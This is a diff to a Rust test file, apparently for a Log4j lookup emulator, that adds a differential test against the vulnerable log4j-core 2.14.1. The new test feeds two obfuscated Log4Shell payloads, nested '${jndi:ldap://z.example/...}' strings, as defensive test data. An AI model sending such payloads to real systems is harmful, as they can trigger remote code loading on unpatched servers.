@@ -526,8 +526,33 @@ fn oracle(java: &Path, classpath: &str, payloads: &[String]) -> Vec<Result<Expec
 }
 
 #[test]
-#[allow(clippy::print_stderr)]
 fn evaluate_matches_live_log4j_on_fresh_payloads() {
+    let classpath =
+        std::env::var("VIGILO_LOG4J_CLASSPATH").unwrap_or_else(|_| DEFAULT_CLASSPATH.to_owned());
+    live_differential(&classpath, "Debian's log4j-core 2.19.0", &[]);
+}
+
+/// The same against log4j-core 2.14.1, the last release before the fix
+/// (`.cache/test-jars`, from scripts/fetch-test-jars), with Debian's
+/// log4j-api: the version attackers aimed at. Here values, defaults
+/// included, are substituted again, which the emulator does too.
+#[test]
+fn evaluate_matches_the_vulnerable_log4j_2_14_1() {
+    let jar = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("../../.cache/test-jars/log4j-core-2.14.1.jar");
+    let classpath = format!("{}:/usr/share/java/log4j-api.jar", jar.display());
+    live_differential(
+        &classpath,
+        "log4j-core 2.14.1",
+        &[
+            "${::-$${jndi:ldap://z.example/c}}",
+            "${::-${::-$${::-j}ndi:ldap://z.example/d}}",
+        ],
+    );
+}
+
+#[allow(clippy::print_stderr)]
+fn live_differential(classpath: &str, label: &str, extra: &[&str]) {
     let Some(python) = on_path("python3") else {
         unavailable("python3 is not on PATH");
         return;
@@ -536,9 +561,7 @@ fn evaluate_matches_live_log4j_on_fresh_payloads() {
         unavailable("java is not on PATH (nor in JAVA_HOME)");
         return;
     };
-    let classpath =
-        std::env::var("VIGILO_LOG4J_CLASSPATH").unwrap_or_else(|_| DEFAULT_CLASSPATH.to_owned());
-    if let Some(jar) = std::env::split_paths(&classpath).find(|p| !p.is_file()) {
+    if let Some(jar) = std::env::split_paths(classpath).find(|p| !p.is_file()) {
         unavailable(&format!(
             "{} is missing (Debian package liblog4j2-java)",
             jar.display()
@@ -549,7 +572,9 @@ fn evaluate_matches_live_log4j_on_fresh_payloads() {
         Ok(s) => s.parse().expect("VIGILO_ORACLE_SEED is a number"),
         Err(_) => rand::random::<u32>().into(),
     };
-    eprintln!("live Log4j differential test: seed {seed} (replay with VIGILO_ORACLE_SEED={seed})");
+    eprintln!(
+        "live Log4j differential test ({label}): seed {seed} (replay with VIGILO_ORACLE_SEED={seed})"
+    );
 
     let mut cmd = Command::new(python);
     cmd.arg(corpus_dir().join("generate.py"))
@@ -572,9 +597,15 @@ fn evaluate_matches_live_log4j_on_fresh_payloads() {
             .enumerate()
             .map(|(i, p)| (format!("edge-{i}"), (*p).to_owned())),
     );
+    cases.extend(
+        extra
+            .iter()
+            .enumerate()
+            .map(|(i, p)| (format!("extra-{i}"), (*p).to_owned())),
+    );
 
     let payloads: Vec<String> = cases.iter().map(|(_, p)| p.clone()).collect();
-    let answers = oracle(&java, &classpath, &payloads);
+    let answers = oracle(&java, classpath, &payloads);
     let mut failures = Vec::new();
     for ((id, payload), answer) in cases.iter().zip(&answers) {
         let want = match answer {
@@ -590,7 +621,7 @@ fn evaluate_matches_live_log4j_on_fresh_payloads() {
         }
     }
     fail_with(
-        &format!("eval::evaluate against live Log4j, seed {seed} (VIGILO_ORACLE_SEED={seed})"),
+        &format!("eval::evaluate against live {label}, seed {seed} (VIGILO_ORACLE_SEED={seed})"),
         &failures,
         cases.len(),
     );
